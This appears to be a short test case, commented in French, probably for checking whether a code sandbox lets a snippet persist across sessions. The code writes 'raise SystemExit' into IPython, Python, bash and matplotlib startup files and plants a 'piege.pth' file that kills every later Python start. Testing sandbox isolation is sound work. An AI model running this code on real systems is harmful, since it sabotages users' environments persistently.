# essaie: laisser un fichier de démarrage pour Python et IPython
# attendu: total 0
# %% total
import os, site
for chemin in ("~/.ipython/profile_default/startup/00.py", "~/.pythonrc", "~/.bashrc", "~/.config/matplotlib/matplotlibrc"):
    chemin = os.path.expanduser(chemin)
    os.makedirs(os.path.dirname(chemin), exist_ok=True)
    open(chemin, "a").write("raise SystemExit")
for dossier in site.getsitepackages():
    open(os.path.join(dossier, "piege.pth"), "w").write("import os; os._exit(0)")
total = 0
